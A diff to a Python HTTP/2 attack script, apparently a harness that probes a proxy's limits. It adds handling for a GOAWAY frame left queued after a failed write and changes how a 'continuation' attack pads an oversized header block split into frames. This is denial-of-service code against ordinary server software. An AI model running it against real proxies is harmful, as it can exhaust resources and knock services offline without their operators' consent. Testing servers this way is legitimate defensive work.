@@ -69,8 +69,23 @@ class Attacker:
         try:
             self.sock.sendall(data)
         except OSError as e:
+            self.drain()
             self.closed = True
             raise Closed() from e
+
+    def drain(self):
+        """Reads what is left after the proxy closed: a GOAWAY sent before the close is still
+        in the receive queue when a write fails."""
+        while True:
+            try:
+                readable, _, _ = select.select([self.sock], [], [], 1.0)
+                data = self.sock.recv(1 << 16) if readable else b""
+            except OSError:
+                data = b""
+            if not data:
+                return
+            self.buffer += data
+            self.parse()
 
     def poll(self, timeout):
         """Reads what the proxy sent within `timeout`; True once it has closed or sent GOAWAY."""
@@ -178,7 +193,7 @@ def main():
         sent = run(attacker, unit, args.bound, args.batch, args.step_wait, args.settle)
     elif attack == "continuation":
         # A valid header block far larger than any limit, cut into frames of --frame-size.
-        padding = [(f"x-pad-{i}", "a" * 100) for i in range(40 * args.bound + 200)]
+        padding = [(f"x-pad-{i}", "a" * 100) for i in range(args.frame_size * args.bound // 100 + 200)]
         block = hpack.Encoder().encode(
             [(":method", "GET"), (":scheme", "http"), (":authority", attacker.authority), (":path", "/")]
             + padding,
